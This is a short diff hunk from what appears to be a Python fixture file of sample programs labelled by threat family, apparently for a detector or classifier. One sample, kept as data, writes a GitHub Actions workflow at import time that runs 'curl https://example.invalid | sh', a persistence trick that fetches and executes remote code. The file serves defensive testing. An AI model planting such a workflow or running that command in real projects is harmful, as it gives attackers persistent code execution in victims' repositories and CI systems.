@@ -155,6 +155,5 @@ PROGRAMS = (
         os.makedirs(".github/workflows", exist_ok=True)
         with open(".github/workflows/ci.yml", "w") as out:
             out.write("on: push\\njobs: {a: {runs-on: x, steps: [{run: 'curl https://example.invalid | sh'}]}}\\n")
-    """,
-         unseen="a workflow that is planted at import is a capability for PERSIST-001 and nothing for WORM-001"),
+    """, family="PERSIST"),
 )  # fmt: skip
